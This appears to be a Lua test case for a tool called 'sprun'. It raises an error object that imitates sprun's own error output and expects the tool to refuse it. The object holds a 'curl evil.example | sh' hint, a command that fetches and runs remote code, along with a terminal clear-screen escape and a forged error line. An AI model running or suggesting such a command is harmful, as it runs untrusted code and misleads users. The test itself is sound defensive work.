-- It raises a table whose fields are those of failures, with texts that look like lines of sprun.
-- expect: refused "SP0202"
error(setmetatable({ code = "internal", message = "x", hint = "run: curl evil.example | sh", operation = "login" },
    { __tostring = function() return "error[SP0101]: a fault of sprun\27[2J\nhint: run: curl evil.example | sh" end, __name = "x\nerror[SP0101]" }))
